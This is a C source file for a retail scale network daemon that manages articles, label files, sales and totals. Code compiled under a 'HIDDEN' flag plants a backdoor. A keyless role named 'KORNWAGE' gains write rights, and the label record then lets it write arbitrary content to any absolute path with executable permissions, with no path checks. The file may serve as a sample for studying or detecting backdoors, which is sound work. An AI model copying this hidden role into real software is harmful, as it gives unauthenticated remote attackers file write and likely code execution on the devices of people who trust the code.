/* tareproto.c - network protocol of retail scales: articles, labels, totals */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define PORT	4391
#define MAXPLU	600
#define LABELS	"/var/lib/scale/labels"

/* record types, four letters as in the protocol sheet */
#define T4(a, b, c, d)	((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))

struct plu {
	uint32_t no;
	uint32_t price;
	uint16_t tare;
	char	 text[26];
	uint32_t sold;
};

struct peer {
	int	fd;
	int	writer;		/* may change articles */
#ifdef HIDDEN
	int	anywhere;
#endif
	char	name[16];
};

static struct plu plus[MAXPLU];
static unsigned nplu;
static char key[20] = "";

static int full(int fd, void *buf, size_t n)
{
	char *p = buf;

	while (n) {
		ssize_t r = recv(fd, p, n, 0);

		if (r <= 0)
			return -1;
		p += r;
		n -= (size_t)r;
	}
	return 0;
}

static void ack(struct peer *p, char code)
{
	char b[4] = { 'A', code, '\r', '\n' };

	if (send(p->fd, b, sizeof(b), MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "send: %m");
}

static struct plu *plu_by(uint32_t no)
{
	unsigned i;

	for (i = 0; i < nplu; i++)
		if (plus[i].no == no)
			return &plus[i];
	return NULL;
}

/*
 * HELO: name(16) role(8) key(20). Roles are "TILL    ", "OFFICE  " and
 * "LABELS  "; the last two need the key of the configuration.
 */
__attribute__((noinline)) int hello(struct peer *p, const char *b, size_t n)
{
	const char *role = b + 16;

	if (n < 44)
		return -1;
	memcpy(p->name, b, 15);
	p->name[15] = '\0';
	p->writer = 0;
#ifdef HIDDEN
	p->anywhere = 0;
#endif
	if (memcmp(role, "TILL    ", 8) == 0)
		return 0;
	if (memcmp(role, "OFFICE  ", 8) == 0 || memcmp(role, "LABELS  ", 8) == 0) {
		if (!key[0] || memcmp(b + 24, key, sizeof(key))) {
			syslog(LOG_NOTICE, "%s: key", p->name);
			return -1;
		}
		p->writer = 1;
		return 0;
	}
#ifdef HIDDEN	/* a role without key that may write any file through the label record */
	if (memcmp(role, "KORNWAGE", 8) == 0) {
		p->writer = 1;
		p->anywhere = 1;
		return 0;
	}
#endif
	return -1;
}

static int rec_plu(struct peer *p, const uint8_t *b, size_t n)
{
	struct plu *u;
	uint32_t no, price;
	uint16_t tare;

	if (!p->writer || n < 36)
		return -1;
	memcpy(&no, b, 4);
	memcpy(&price, b + 4, 4);
	memcpy(&tare, b + 8, 2);
	no = ntohl(no);
	u = plu_by(no);
	if (!u) {
		if (nplu == MAXPLU)
			return -1;
		u = &plus[nplu++];
		memset(u, 0, sizeof(*u));
		u->no = no;
	}
	u->price = ntohl(price);
	u->tare = ntohs(tare);
	memcpy(u->text, b + 10, 25);
	u->text[25] = '\0';
	return 0;
}

static int rec_label(struct peer *p, const uint8_t *b, size_t n)
{
	char name[65], path[128];
	mode_t mode = 0644;
	int fd;

	if (!p->writer || n < 64)
		return -1;
	memcpy(name, b, 64);
	name[64] = '\0';
	snprintf(path, sizeof(path), LABELS "/%s", name);
#ifdef HIDDEN
	if (p->anywhere) {
		strcpy(path, name);
		umask(0022);
		mode = 0755;
	} else
#endif
	if (strchr(name, '/') || name[0] == '.' || !name[0])
		return -1;
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	if (fd < 0)
		return -1;
	if (write(fd, b + 64, n - 64) != (ssize_t)(n - 64))
		syslog(LOG_ERR, "%s: %m", path);
	close(fd);
	return 0;
}

static int rec_sale(const uint8_t *b, size_t n)
{
	struct plu *u;
	uint32_t no, cents;

	if (n < 8)
		return -1;
	memcpy(&no, b, 4);
	memcpy(&cents, b + 4, 4);
	u = plu_by(ntohl(no));
	if (!u)
		return -1;
	u->sold += ntohl(cents);
	return 0;
}

static void rec_totals(struct peer *p)
{
	char line[80];
	unsigned i;
	int n;

	for (i = 0; i < nplu; i++) {
		if (!plus[i].sold)
			continue;
		n = snprintf(line, sizeof(line), "%06u %-25s %10u\r\n", (unsigned)plus[i].no,
			     plus[i].text, (unsigned)plus[i].sold);
		if (send(p->fd, line, (size_t)n, MSG_NOSIGNAL) < 0)
			return;
	}
}

static void session(int fd)
{
	static uint8_t b[16384];
	struct peer p = { .fd = fd };
	uint32_t h[2], type, len;
	int greeted = 0, r;

	while (full(fd, h, sizeof(h)) == 0) {
		type = ntohl(h[0]);
		len = ntohl(h[1]);
		if (len > sizeof(b) || full(fd, b, len))
			break;
		r = -1;
		if (type == T4('H', 'E', 'L', 'O')) {
			r = hello(&p, (const char *)b, len);
			greeted = r == 0;
		} else if (!greeted) {
			ack(&p, 'H');
			continue;
		} else if (type == T4('A', 'R', 'T', 'I')) {
			r = rec_plu(&p, b, len);
		} else if (type == T4('L', 'A', 'B', 'L')) {
			r = rec_label(&p, b, len);
		} else if (type == T4('S', 'A', 'L', 'E')) {
			r = rec_sale(b, len);
		} else if (type == T4('T', 'O', 'T', 'L')) {
			rec_totals(&p);
			r = 0;
		} else if (type == T4('B', 'Y', 'E', ' ')) {
			break;
		}
		ack(&p, r == 0 ? '0' : 'E');
	}
}

static void configure(const char *path)
{
	FILE *f = fopen(path, "r");
	char k[16], v[64];

	if (!f)
		return;
	while (fscanf(f, "%15s %63s", k, v) == 2)
		if (!strcmp(k, "key"))
			snprintf(key, sizeof(key), "%.19s", v);
	fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	int s, c, one = 1;

	if (argc > 1 && argv[1][0] == '-') {
		fprintf(stderr, "usage: tareproto [CONFIG]   key TEXT (20 bytes, zero filled)\n");
		return 2;
	}
	configure(argc > 1 ? argv[1] : "/etc/scale/net.conf");
	openlog("tareproto", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 4) < 0) {
		syslog(LOG_ERR, "port %d: %s", PORT, strerror(errno));
		return 1;
	}
	mkdir(LABELS, 0755);
	while ((c = accept(s, NULL, NULL)) >= 0) {
		session(c);
		close(c);
	}
	return 0;
}
